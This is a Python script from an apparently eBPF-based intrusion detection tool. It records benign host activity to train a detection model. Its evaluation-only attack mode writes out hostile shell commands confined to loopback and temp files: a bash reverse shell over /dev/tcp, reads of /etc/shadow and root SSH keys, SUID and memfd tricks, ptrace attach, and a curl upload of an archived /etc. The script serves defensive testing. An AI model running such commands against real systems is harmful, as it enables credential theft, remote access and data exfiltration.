#!/usr/bin/env python3
"""Record benign host activity for training the default ONNX model, reproducibly.

    sudo .venv/bin/python scripts/record_benign.py --output benign.jsonl [--kinds dev,web] [--seconds 300]

What it does:
1. creates a cgroup v2 group (/sys/fs/cgroup[/unified]/ravn-benign-<pid>) and notes its id (the inode number, which is
   what the probes report as ``proc.cgroup``);
2. starts ``ravn record`` with the given config (default: config/ravn.yaml's four probes, analyzers off), in
   the root cgroup, writing every event of the host to a raw file;
3. runs benign workloads of the kinds given by ``--kinds`` (bench/benign.py: dev, build, packages, admin,
   web, cron; default ``dev``, the shipped model's training workload), round after round with varying inputs,
   in shells placed in that cgroup (so every process they start is in it);
4. stops the recorder and keeps only the events of processes in the workload's cgroup (the host may be busy
   with other things, which are not part of the training data).

Needs root (the probes) and the tools named above; a missing tool only skips its commands.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from bench import benign  # noqa: E402 - after the path set-up above

RECORD_CONFIG = """\
ravn:
  state_dir: {state}
  log_level: warning
  http_listen: ""
sources:
  - {{plugin: ebpf_syscall, ring_buffer_kb: 8192, filters: {{exclude_comms: {noise}}}}}
  - {{plugin: ebpf_network, ring_buffer_kb: 8192, filters: {{exclude_comms: {noise}}}}}
  - {{plugin: ebpf_security, ring_buffer_kb: 8192, filters: {{exclude_comms: {noise}}}}}
  - {{plugin: ebpf_file, ring_buffer_kb: 8192, filters: {{exclude_comms: {noise}}}}}
transport:
  plugin: embedded
analyzers: []
sinks:
  - plugin: stdout
    min_level: HIGH
"""

ATTACK_PY_LISTENER = """
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", {port})); s.listen(1); s.settimeout(20)
c, _ = s.accept(); c.sendall(b"id; uname -a; cat /etc/passwd | head -3; exit\\n")
c.settimeout(5)
try:
    while c.recv(4096): pass
except OSError: pass
"""

ATTACK_MEMFD = """
import os
fd = os.memfd_create("x", 0)
os.write(fd, open("/bin/true", "rb").read())
pid = os.fork()
if pid == 0:
    os.execv(f"/proc/self/fd/{fd}", ["x"])
os.waitpid(pid, 0)
"""

ATTACK_PTRACE = """
import ctypes, os, subprocess, time
libc = ctypes.CDLL(None, use_errno=True)
p = subprocess.Popen(["sleep", "5"])
time.sleep(0.2)
libc.ptrace(16, p.pid, None, None)  # PTRACE_ATTACH
time.sleep(0.1)
libc.ptrace(17, p.pid, None, None)  # PTRACE_DETACH
p.kill(); p.wait()
"""


def attack_workload(round_no: int, rng: random.Random, py: str) -> list[str]:
    """Evaluation only, never training data: intrusion-like behaviour, on loopback and in the temp dir, undone
    at once. Reverse shell to a loopback listener, port scan of loopback, dropper run from /tmp, credential
    file reads, SUID search, fileless exec from a memfd, ptrace attach, unshare, staged archive of /etc."""
    port = 20000 + rng.randint(0, 20000)
    return [
        f"({py} - <<'EOF'\n{ATTACK_PY_LISTENER.format(port=port)}\nEOF\n) & sleep 0.5;"
        f" bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'; wait",
        "for p in $(seq 1 200); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true",
        "cp /bin/ls /tmp/.rvn_x$$ && chmod 4755 /tmp/.rvn_x$$ && /tmp/.rvn_x$$ / >/dev/null; rm -f /tmp/.rvn_x$$",
        "cat /etc/shadow >/dev/null; cat /root/.ssh/id_* 2>/dev/null; cat /etc/sudoers >/dev/null 2>&1",
        "find / -xdev -perm -4000 -type f 2>/dev/null | head -20 >/dev/null",
        f"{py} - <<'EOF'\n{ATTACK_MEMFD}\nEOF",
        f"{py} - <<'EOF'\n{ATTACK_PTRACE}\nEOF",
        "unshare -r id >/dev/null 2>&1; true",
        "tar czf /tmp/.rvn_etc$$.tgz /etc 2>/dev/null; curl -s -m 1 -T /tmp/.rvn_etc$$.tgz http://127.0.0.1:9/ ;"
        " rm -f /tmp/.rvn_etc$$.tgz; true",
    ]


def cgroup_create() -> tuple[Path, int]:
    for base in (Path("/sys/fs/cgroup"), Path("/sys/fs/cgroup/unified")):  # pure v2, or hybrid
        if (base / "cgroup.procs").exists() and (base / "cgroup.subtree_control").exists():
            break
    else:
        raise SystemExit("record_benign: no cgroup v2 hierarchy at /sys/fs/cgroup or /sys/fs/cgroup/unified")
    cg = base / f"ravn-benign-{os.getpid()}"
    cg.mkdir(exist_ok=True)
    return cg, os.stat(cg).st_ino


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--output", required=True, help="filtered events (JSON lines) for `ravn train`")
    ap.add_argument("--seconds", type=float, default=300, help="how long to run the workload")
    ap.add_argument("--config", default="", help="ravn config for recording (default: four probes, no analyzers)")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--kinds", default="dev",
                    help="benign workload kinds, comma-separated or 'all' (bench/benign.py: "
                         f"{', '.join(benign.KINDS)})")
    ap.add_argument("--attack", action="store_true",
                    help="run the intrusion-like workload instead (evaluation of a trained model; never train on it)")
    ap.add_argument("--keep-raw", action="store_true", help="keep the unfiltered recording and the recorder log")
    ap.add_argument("--exclude-comm", action="append", default=[],
                    help="comm of unrelated busy processes to filter in the kernel (less load, fewer drops; "
                         "their events would be dropped from the output anyway)")
    args = ap.parse_args()
    try:
        kinds = benign.parse_kinds(args.kinds)
    except ValueError as exc:
        ap.error(str(exc))
    if os.geteuid() != 0:
        print("record_benign: run as root (the probes need it)", file=sys.stderr)
        return 3
    ravn = shutil.which("ravn") or str(ROOT / ".venv/bin/ravn")
    py = str(ROOT / ".venv/bin/python") if (ROOT / ".venv/bin/python").exists() else sys.executable
    work = Path(tempfile.mkdtemp(prefix="ravn-benign-"))
    cfg = Path(args.config) if args.config else work / "record.yaml"
    if not args.config:
        noise = json.dumps(args.exclude_comm)
        cfg.write_text(RECORD_CONFIG.format(state=work / "state", noise=noise))
    raw = work / "raw.jsonl"
    cg, cg_id = cgroup_create()
    print(f"record_benign: cgroup {cg} id {cg_id}; raw events in {raw}", file=sys.stderr)
    rec = subprocess.Popen([ravn, "record", "--config", str(cfg), "--output", str(raw),
                            "--duration", str(args.seconds + 120)], stderr=open(work / "record.log", "w"))
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and (not raw.exists() or raw.stat().st_size == 0):
            if rec.poll() is not None:
                print(f"record_benign: ravn record exited {rec.returncode}; see {work / 'record.log'}",
                      file=sys.stderr)
                return 1
            time.sleep(0.5)
        time.sleep(2)
        procs_file = cg / "cgroup.procs"

        def enter_cgroup() -> None:
            procs_file.write_text(str(os.getpid()))

        if args.attack:
            rng = random.Random(args.seed)
            end = time.monotonic() + args.seconds
            rounds = 0
            while time.monotonic() < end:
                rounds += 1
                d = Path(tempfile.mkdtemp(prefix=f"round{rounds}-", dir=work))
                script = "set +e\n" + "\n".join(attack_workload(rounds, rng, py)) + "\n"
                subprocess.run(["bash", "-c", script], cwd=d, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                               preexec_fn=enter_cgroup, timeout=120, check=False)
                shutil.rmtree(d, ignore_errors=True)
            print(f"record_benign: {rounds} attack rounds in {args.seconds:.0f} s", file=sys.stderr)
        else:
            done = benign.run(work, kinds, seconds=args.seconds, seed=args.seed, py=py, timeout=120,
                              preexec_fn=enter_cgroup)
            print(f"record_benign: {', '.join(f'{k} {n}' for k, n in done.items())} rounds in "
                  f"{args.seconds:.0f} s", file=sys.stderr)
        time.sleep(3)  # let the last summaries flush
    finally:
        rec.send_signal(signal.SIGINT)
        try:
            rec.wait(60)
        except subprocess.TimeoutExpired:
            rec.kill()
            rec.wait()
    kept = total = 0
    with open(raw, encoding="utf-8") as src, open(args.output, "w", encoding="utf-8") as dst:
        for line in src:
            total += 1
            try:
                ev = json.loads(line)
            except json.JSONDecodeError:
                continue
            if ev.get("proc.cgroup") == cg_id:
                dst.write(line)
                kept += 1
    try:
        cg.rmdir()
    except OSError:
        pass
    if not args.keep_raw:
        shutil.rmtree(work, ignore_errors=True)
    print(f"record_benign: kept {kept} of {total} events (the workload's cgroup) -> {args.output}",
          file=sys.stderr)
    return 0 if kept else 1


if __name__ == "__main__":
    raise SystemExit(main())
